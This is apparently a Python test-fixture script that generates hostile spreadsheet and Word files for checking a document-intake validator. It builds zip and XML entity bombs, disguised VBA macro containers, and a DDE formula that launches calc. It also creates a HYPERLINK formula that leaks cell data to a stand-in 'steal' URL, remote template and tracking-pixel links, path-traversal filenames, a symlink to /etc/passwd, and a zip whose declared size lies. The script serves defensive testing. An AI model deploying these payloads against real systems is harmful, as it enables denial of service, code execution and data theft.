"""Build the corpus of hostile files intake must reject (run by the tests; runnable by hand).

    python -m tests.hostile.make_corpus OUT_DIR

Everything is generated from a real filled template, so each file differs from a valid one in
exactly one hostile way. Bombs are tiny on disk (deflate of zeros); the oversized file is sparse.
Returns {file name: the problem code intake must report}.

Issue 15 item 5 (each was accepted before): a VBA project under another name (found by its OLE
signature, not its name), formulas in a worksheet part not ending in .xml, external relationships
(an external workbook link, a remote .dotm template, a UNC hyperlink, a remote picture), 5,600
characters hidden in content controls and in text boxes of a 1,500-字 document, and a DDK002 workbook
whose hidden _meta sheet was edited to DDK001. `HIDDEN_CHARS` is what the text hides.
"""

from __future__ import annotations

import os
import struct
import sys
import zipfile
import zlib
from pathlib import Path

BOMB_XML = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol9;</workbook>'
)
HIDDEN_CHARS = 5_600
NON_UTF8_NAME = os.fsdecode(b"DDK001_\xc4\xbf\xb1\xea\xc8\xce\xce\xf1.xlsx")  # GBK bytes of 目标任务


def _rewrite(
    source: Path, target: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return target


def _zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as out:
        block = b"0" * (1024 * 1024)
        for _ in range(size // len(block)):
            out.write(block)


def vba_project() -> bytes:
    """A minimal OLE compound file laid out like a VBA project (storage VBA, streams _VBA_PROJECT and dir)."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)  # minor, major (v3), byte order, sector shifts
    struct.pack_into("<IIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE)
    struct.pack_into("<I", header, 72, 0xFFFFFFFE)  # no DIFAT sectors
    header[76:512] = struct.pack("<I", 0) + b"\xff" * 432  # DIFAT[0] = sector 0 (the FAT), rest unused
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504  # sector 0 FAT, sector 1 directory

    def entry(name: str, kind: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        e = bytearray(128)
        e[0 : len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)
        struct.pack_into("<III", e, 68, 0xFFFFFFFF, right, child)
        struct.pack_into("<II", e, 116, 0xFFFFFFFE, 0)
        return bytes(e)

    directory = entry("Root Entry", 5, child=1) + entry("VBA", 1, child=2) + entry("_VBA_PROJECT", 2, right=3)
    directory += entry("dir", 2)
    return bytes(header) + fat + directory


def _sheet_renamed(source: Path, target: Path, new_name: str) -> Path:
    """The first worksheet moved to `new_name`, the workbook's relationship and content type following it."""
    old = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(b"/" + old.encode(), b"/" + new_name.encode())
            dst.writestr(new_name if info.filename == old else info.filename, data)
    return target


def _docx_with(source: Path, target: Path, body: str = "", rels: dict[str, str] | None = None) -> Path:
    """`body` XML inserted at the end of the document body; `rels`: {rels part: Relationship XML} added."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/document.xml" and body:
                data = data.replace(b"<w:sectPr", body.encode("utf-8") + b"<w:sectPr", 1)
            if rels and info.filename in rels:
                data = data.replace(b"</Relationships>", rels[info.filename].encode() + b"</Relationships>")
            dst.writestr(info, data)
        for name, rel in (rels or {}).items():
            if name not in names:
                dst.writestr(name, _rels(rel))
    return target


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rels(*relationships: str) -> str:
    return f'<Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'


REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HIDDEN = ("价值创造行动对标一流" * 1000)[: HIDDEN_CHARS // 2]


def content_controls(text: str = HIDDEN) -> str:
    """Two block content controls (<w:sdt>) holding `text` each: python-docx's doc.paragraphs never sees them."""
    one = f"<w:sdt><w:sdtPr><w:alias w:val='补充说明'/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    return (one + "</w:sdtContent></w:sdt>") * 2


def text_boxes(text: str = HIDDEN) -> str:
    """Two text boxes holding `text` each, stored as Word does: a DrawingML box and its VML fallback copy."""
    wps = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
    box = f"<w:txbxContent><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:txbxContent>"
    run = (
        "<w:r><mc:AlternateContent><mc:Choice Requires='wps'><w:drawing><wp:anchor><a:graphic><a:graphicData>"
        f"<wps:wsp xmlns:wps='{wps}'><wps:txbx>{box}</wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor>"
        f"</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox>{box}</v:textbox></v:shape></w:pict>"
        "</mc:Fallback></mc:AlternateContent></w:r>"
    )
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    return f"<w:p xmlns:a='{a}'>{run}</w:p>" * 2


def build_corpus(
    out: Path, filled: Path, filled_docx: Path, max_bytes: int, other: Path | None = None
) -> dict[str, str]:
    """`filled`: a valid DDK001_task-list-2023.xlsx; `filled_docx`: a filled DDK001_targets-2023.docx (1,500 字);
    `other`: a valid DDK002_task-list-2023.xlsx (its _meta is edited to DDK001)."""
    out.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}

    def add(name: str, code: str) -> Path:
        expected[name] = code
        return out / name

    big = add("DDK001_task-list-2023.xlsx", "E_TOO_LARGE")
    with big.open("wb") as fh:
        fh.write(filled.read_bytes())
        fh.truncate(max_bytes + 1)  # sparse: over the limit, ~no disk

    with zipfile.ZipFile(add("DDK002_task-list-2023.xlsx", "E_ZIP_BOMB"), "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        _zeros_member(zf, "xl/worksheets/sheet1.xml", 150 * 1024 * 1024)  # 150 MB in ~150 KB
    ratio = add("DDK003_task-list-2023.xlsx", "E_ZIP_BOMB")
    _rewrite(filled, ratio, add={"xl/media/padding.bin": b"\0" * (3 * 1024 * 1024)})

    _rewrite(filled, add("DDK004_task-list-2023.xlsx", "E_XML_BOMB"), replace={"xl/workbook.xml": BOMB_XML})
    _rewrite(
        filled, add("DDK005_task-list-2023.xlsx", "E_MACRO"), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0fake-vba"}
    )
    add("DDK006_task-list-2023.xlsm", "E_MACRO").write_bytes(filled.read_bytes())

    data = filled.read_bytes()
    add("DDK001_targets-2023.xlsx", "E_CORRUPT").write_bytes(data[: len(data) // 2])  # truncated transfer
    add("DDK002_targets-2023.xlsx", "E_FILE_TYPE").write_bytes("<html><body>不是表格</body></html>".encode())
    add("DDK003_targets-2023.xlsx", "E_FILE_TYPE").write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    )  # legacy .xls
    add("DDK004_targets-2023.xlsx", "E_FILE_TYPE").write_bytes(filled_docx.read_bytes())  # a .docx renamed

    from openpyxl import load_workbook

    wb = load_workbook(filled)
    ws = wb.worksheets[0]
    ws["H5"] = "=12000*1.1"
    ws["I6"] = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击")'
    wb.save(add("DDK001_task-list-2023 (2).xlsx", "E_FORMULA"))  # Windows' name for a second copy

    # Odd names on otherwise valid workbooks, each with different bytes (same bytes = one version).
    for i, name in enumerate(
        ("..\\..\\DDK001_task-list-2023.xlsx", "DDK001_task\x07list.xlsx", NON_UTF8_NAME, ".DDK001_task-list-2023.xlsx")
    ):
        wb = load_workbook(filled)
        wb.worksheets[0]["M5"] = f"第{i + 1}次修改"
        wb.save(add(name, "E_FILENAME"))

    # --- issue 15 item 5 -----------------------------------------------------------------------------
    _rewrite(filled, add("DDK001_task-list-2023 (4).xlsx", "E_MACRO"), add={"xl/stuff.dat": vba_project()})
    types = b'<Override PartName="/xl/stuff.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    with zipfile.ZipFile(filled) as zf:
        declared = zf.read("[Content_Types].xml").replace(b"</Types>", types)
    _rewrite(
        filled,
        add("DDK001_task-list-2023 (5).xlsx", "E_MACRO"),
        replace={"[Content_Types].xml": declared},
        add={"xl/stuff.dat": b"not even a compound file"},
    )
    _rewrite(
        filled,
        add("DDK001_task-list-2023 (6).xlsx", "E_EMBEDDED"),
        add={
            "xl/embeddings/oleObject1.bin": vba_project()[:1536].replace(
                "_VBA_PROJECT".encode("utf-16-le"), "Ole10Native\0".encode("utf-16-le")
            )
        },
    )

    wb = load_workbook(filled)
    wb.worksheets[0]["H6"] = "=1000*1.2"
    wb.worksheets[0]["I7"] = "=cmd|' /C calc'!A0"
    wb.save(out / "_formulas.xlsx")
    _sheet_renamed(
        out / "_formulas.xlsx", add("DDK001_task-list-2023 (7).xlsx", "E_FORMULA"), "xl/worksheets/sheet1.bin"
    )
    (out / "_formulas.xlsx").unlink()

    ext_rel = (
        f'<Relationship Id="rId99" Type="{REL_TYPE}externalLinkPath" '
        'Target="file:///\\\\fileserver\\share\\budget.xlsx" TargetMode="External"/>'
    )
    _rewrite(
        filled,
        add("DDK001_task-list-2023 (8).xlsx", "E_EXTERNAL_LINK"),
        add={"xl/externalLinks/_rels/externalLink1.xml.rels": _rels(ext_rel)},
    )
    pixel = (
        f'<Relationship Id="rId98" Type="{REL_TYPE}image" Target="http://tracker.example.invalid/p.png" '
        'TargetMode="External"/>'
    )
    _rewrite(
        filled,
        add("DDK001_task-list-2023 (9).xlsx", "E_EXTERNAL_LINK"),
        add={"xl/drawings/_rels/drawing1.xml.rels": _rels(pixel)},
    )
    template = (
        f'<Relationship Id="rId97" Type="{REL_TYPE}attachedTemplate" '
        'Target="https://templates.example.invalid/normal.dotm" TargetMode="External"/>'
    )
    _docx_with(
        filled_docx,
        add("DDK001_targets-2023 (2).docx", "E_EXTERNAL_LINK"),
        rels={"word/_rels/settings.xml.rels": template},
    )
    unc = (
        f'<Relationship Id="rId96" Type="{REL_TYPE}hyperlink" Target="\\\\fileserver\\share\\plan.docx" '
        'TargetMode="External"/>'
    )
    _docx_with(
        filled_docx, add("DDK001_targets-2023 (3).docx", "E_EXTERNAL_LINK"), rels={"word/_rels/document.xml.rels": unc}
    )
    _docx_with(filled_docx, add("DDK001_targets-2023 (4).docx", "E_TOO_LONG"), body=content_controls())
    _docx_with(filled_docx, add("DDK001_targets-2023 (5).docx", "E_TOO_LONG"), body=text_boxes())

    if other is not None:
        wb = load_workbook(other)
        meta = wb["_meta"]
        for row in meta.iter_rows():
            if row[0].value == "enterprise_code":
                row[1].value = "DDK001"
        wb.save(add("DDK001_task-list-2023 (3).xlsx", "E_META_SIGNATURE"))
        wb = load_workbook(other)
        del wb["_meta"]  # the other way round the signature: no metadata at all, named as DDK001's
        wb.save(add("DDK001_task-list-2024.xlsx", "E_META_SIGNATURE"))

    link = add("DDK006_targets-2023.xlsx", "E_FILE_TYPE")
    link.symlink_to("/etc/passwd")
    add("notes.txt", "E_FILENAME").write_text("随手放进收件箱的说明文字", encoding="utf-8")
    return expected


def filled_attachment1(config, folder: Path, code: str = "DDK001") -> Path:
    """`code`'s Attachment 1 (targets-2023, limit 1,500 字) filled with its own text, well under the limit."""
    from docx import Document

    from campaign.documents.generate import write_document
    from tests.support.filling import fill_attachment1

    path = write_document(config.enterprise(code), config.deliverable("targets-2023"), folder)
    doc = Document(str(path))
    fill_attachment1(doc)
    doc.save(str(path))
    return path


if __name__ == "__main__":
    from campaign.config.model import load_config
    from campaign.config.settings import get_settings
    from campaign.workbook.generate import write_task_list
    from tests.support.filling import fill

    target = Path(sys.argv[1])
    config = load_config()
    tpl = write_task_list(config, config.enterprise("DDK001"), config.deliverable("task-list-2023"), target / "_src")
    tpl2 = write_task_list(config, config.enterprise("DDK002"), config.deliverable("task-list-2023"), target / "_src2")
    docx = filled_attachment1(config, target / "_src")
    corpus = build_corpus(target, fill(tpl), docx, get_settings().max_upload_bytes, fill(tpl2))
    for name, code in corpus.items():
        print(code, repr(name))


def lying_zip(source: Path, target: Path, declared: int, inflates_to_mb: int = 2_000) -> Path:
    """`source` with its first worksheet replaced by a deflate stream that expands to `inflates_to_mb` MB
    while the zip directory declares `declared` bytes (and a ratio under the limit). About 2 MB on disk."""
    sheet = "xl/worksheets/sheet1.xml"
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    head += b'<c r="A1" t="inlineStr"><is><t>'
    stream = deflater.compress(head) + deflater.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the deflater starts afresh, so one compressed megabyte can be repeated verbatim.
    unit = deflater.compress(b"0" * 1048576) + deflater.flush(zlib.Z_FULL_FLUSH)
    stream += unit * inflates_to_mb + deflater.flush(zlib.Z_FINISH)
    members: list[tuple[str, bytes, int, int]] = []  # name, raw deflate, declared size, crc
    with zipfile.ZipFile(source) as src:
        for info in src.infolist():
            if info.filename == sheet:
                members.append((sheet, stream, declared, 0))
                continue
            data = src.read(info)
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            members.append((info.filename, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data)))
    body, central = bytearray(), bytearray()
    for name, raw, size, crc in members:
        encoded = name.encode()
        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded))
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHHII", 0, 0, 0, 0, 0, len(body)) + encoded
        body += b"PK\x03\x04" + fields + struct.pack("<H", 0) + encoded + raw
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(body), 0)
    target.write_bytes(bytes(body + central + end))
    return target
